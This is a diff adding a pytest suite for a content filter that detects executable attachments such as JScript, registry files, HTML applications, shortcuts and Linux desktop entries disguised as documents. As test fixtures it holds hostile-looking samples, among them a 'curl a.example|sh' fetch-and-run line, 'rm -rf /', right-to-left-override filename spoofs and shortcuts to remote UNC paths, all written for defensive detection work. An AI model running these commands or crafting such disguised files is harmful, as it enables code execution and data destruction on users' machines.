@@ -1,0 +1,195 @@
+"""Scripts and other texts that a double click runs, and the text that only looks like them."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from contentfilter.scan import scan_document, scan_message
+from contentfilter.scanners.scripts import SUFFIXES
+from tests.samples.archives import plain_zip
+from tests.samples.messages import attachment, message, multipart, text
+
+JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n'
+REGISTRY = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"
+ENCODED = b"#@~^DgAAAA==W{\x7fq,`)*bAAA==^#~@"
+APPLICATION = b'<html><head><HTA:APPLICATION id="a"></head><script language="VBScript">x</script></html>'
+DESKTOP = b"[Desktop Entry]\nType=Application\nName=Invoice.pdf\nExec=%s\n"
+
+
+def found(data: bytes, name: str) -> list[str]:
+    result = scan_document(name, data)
+    assert "failed" not in {item.reason for item in result.unscanned}, result.unscanned
+    return [finding.detail for finding in result.findings if finding.name == "executable"]
+
+
+@pytest.mark.parametrize("end", sorted(SUFFIXES))
+def test_a_script_by_what_its_suffix_starts(end: str):
+    assert found(JSCRIPT, f"invoice.{end}") == [f"script .{end}: {SUFFIXES[end]}"]
+    assert found(b"", f"invoice.{end}") == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "a.js", "A.JS", "a.js.", "a.js . ", "a.js ", "a.pdf.js", "a.js\0.txt", "a.txt\u202e.js", "a.js\u200b",
+        "annexe\u202efdp.js", " .js", ".js", "a.j\u200bs", "b/../a.js", "c:\\a.js",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize(
+    "data", [JSCRIPT, JSCRIPT.decode().encode("utf-16"), b"\xef\xbb\xbf" + JSCRIPT, b"x" * 9]
+)
+def test_spellings_of_a_suffix(name: str, data: bytes):
+    assert len(found(data, name)) == 1
+
+
+def test_picture_that_is_a_script_as_well():
+    assert len(found(b"GIF89a/*" + bytes(500) + b"*/=1;" + JSCRIPT, "a.js")) == 1
+
+
+def test_in_mail_and_archive():
+    mail = message(
+        multipart(text(), attachment(JSCRIPT, "a.js"), attachment(plain_zip({"b/a.vbs": b"x"}), "b.zip"))
+    )
+    parts = [finding.part for finding in scan_message(mail).findings if finding.name == "executable"]
+    assert parts == ["2/a.js", "3/b.zip/b/a.vbs"]
+
+
+@pytest.mark.parametrize("name", ["x", "a.pdf", "invoice", "a.xml"])
+@pytest.mark.parametrize("wide", ["", "utf-16", "utf-16-le", "utf-8-sig"])
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (ENCODED.replace(b"\x7f", b"-"), "encoded script"),
+        (REGISTRY, "registry entries"),
+        (b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER]\r\n", "registry entries"),
+        (APPLICATION, "HTML application"),
+        (b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0">', "management console"),
+        (b'<?xml version="1.0"?><scriptlet><registration progid="a"/>', "script component"),
+        (
+            b'<package><job id="a"><script language="JScript">x</script></job></package>',
+            "Windows Script Host",
+        ),
+        (
+            b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">',
+            "Windows library",
+        ),
+        (b'<searchConnectorDescription xmlns="http://schemas.microsoft.com/x">', "search connector"),
+        (b"<persistedQuery version='1.0'>", "saved search"),
+        (b"<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd", "settings shortcut"),
+        (b'<?xml version="1.0"?>\n<jnlp spec="1.0+" codebase="http://a.example">', "Java Web Start"),
+        (b'<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">', "app installer"),
+        (b'<asmv1:assembly xmlns="urn:x"><assemblyIdentity/><deployment install="true"/>', "ClickOnce"),
+        (b"http://a.example/a.application#A.app, Version=1, PublicKeyToken=00, x=1", "ClickOnce"),
+        (b"[InternetShortcut]\r\nURL=file://10.0.0.1@80/a.exe\r\n", "shortcut to a file or program"),
+        (
+            b"[InternetShortcut]\r\nURL=http://a\r\nIconFile=\\\\10.0.0.1\\a\r\n",
+            "shortcut to a file or program",
+        ),
+        (b"[InternetShortcut]\r\nWorkingDirectory=\\\\a@ssl\\b\r\n", "shortcut to a file or program"),
+        (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\a.ico\r\n", "Explorer command"),
+        (b"<plist><dict><key>URL</key><string>file:///System/Applications/Calculator.app", "macOS location"),
+        (b"<plist><dict><key>CommandString</key><string>ls", "macOS Terminal"),
+    ],
+)
+def test_what_tells_by_its_content(data: bytes, kind: str, name: str, wide: str):
+    if wide:
+        data = data.decode().encode(wide)
+    assert found(data, name) == [kind]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        b"bash -c 'curl a.example|sh'",
+        b"sh -c x",
+        b"/bin/bash -lc x",
+        b"python3 -c 'import os'",
+        b"perl -e 1",
+        b"wget a",
+        b'sh "-c" x `id`',
+        b"/tmp/a",
+    ],
+)
+def test_desktop_entry_that_starts_a_shell(command: bytes):
+    assert len(found(DESKTOP % command, "Invoice.desktop")) == 1
+
+
+# Text that is to be read.
+
+QUOTED = [
+    JSCRIPT,
+    REGISTRY,
+    APPLICATION[6:],
+    b"@echo off\r\ndel *.*\r\n",
+    b"#!/bin/sh\nrm -rf /\n",
+    DESKTOP % b"sh -c x",
+]
+
+
+@pytest.mark.parametrize("data", QUOTED)
+def test_text_that_quotes_a_program(data: bytes):
+    for name in ("a.txt", "server.log", "fix.patch", "README.md", "a.js.txt"):
+        assert found(data, name) == []
+    assert scan_message(message(text(data))).findings == ()
+    assert scan_message(message(multipart(text(data), text(b"<pre>" + data)))).findings == ()
+
+
+@pytest.mark.parametrize(
+    ("data", "name"),
+    [
+        (b"#include <stdio.h>\nint main() {}\n", "main.c"),
+        (b"import os\nos.system('ls')\n", "tool.py"),
+        (b"#!/bin/bash\nset -e\n", "build.sh"),
+        (b"#!/usr/bin/perl\nprint 1;\n", "x.pl"),
+        (b"<?php echo 1; ?>", "index.php"),
+        (b"<!DOCTYPE html><html><script>track()</script></html>", "page.html"),
+        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "logo.svg"),
+        (b"function f() {}", "notes.json"),
+        (b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=C:\\a.ico\r\n", "page.url"),
+        (DESKTOP % b"gedit %U", "org.gnome.gedit.desktop"),
+        (DESKTOP % b"env PYTHONPATH=/usr/share/x python3 /usr/bin/x", "x.desktop"),
+        (b"[settings]\r\ncommand=2\r\n", "settings.ini"),
+        (b"[.ShellClassInfo]\r\nLocalizedResourceName=@shell32.dll,-21787\r\n", "desktop.ini"),
+        (b"<plist><dict><key>URL</key><string>https://www.example.org/", "page.webloc"),
+        (b"<plist><dict><key>CFBundleName</key><string>x", "Info.plist"),
+        (b"<?xml version='1.0'?><assembly xmlns='urn:x'><assemblyIdentity/></assembly>", "app.manifest"),
+        (b"<?xml version='1.0'?><project><job>x</job></project>", "config.xml"),
+        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "invite.ics"),
+        (b"http://www.example.org/page#top", "link"),
+        (b"Reg. your mail of today", "x"),
+        (b"#@~^ is how encoded scripts begin", "x"),
+        (b"%PDF-1.4 ...", "www.js.pdf"),
+        (b"a,b\r\n1,2\r\n", "js"),
+        (b"hello", "README"),
+        (b"hello", "a.cmd.txt"),
+        (b"\x89PNG\r\n\x1a\n" + bytes(100), "a.png"),
+        (b"x", "." + "y" * 3000),
+    ],
+)  # fmt: skip
+def test_honest_files(data: bytes, name: str):
+    assert found(data, name) == []
+
+
+def test_what_is_built_to_stall():
+    for piece in (
+        b"<job>",
+        b"<assembly ",
+        b"<component ",
+        b"<pcsettings",
+        b"exec=",
+        b"[internetshortcut]\nurl=",
+        b"#a",
+    ):
+        found(b"<deployment<registration<script<deeplink" + piece * 1000, "x")
+        found(b"[desktop entry]\n" + piece * 1000, "x")
+        found(b"http" + piece * 1000, "x")
+
+
+def test_every_suffix_is_documented():
+    page = (Path(__file__).parents[3] / "docs" / "findings.md").read_text(encoding="utf-8")
+    listed = re.search(r"<!-- suffixes -->(.*?)<!-- end -->", page, re.DOTALL)
+    assert listed is not None
+    assert set(re.findall(r"`\.([\w-]+)`", listed[1])) == set(SUFFIXES)
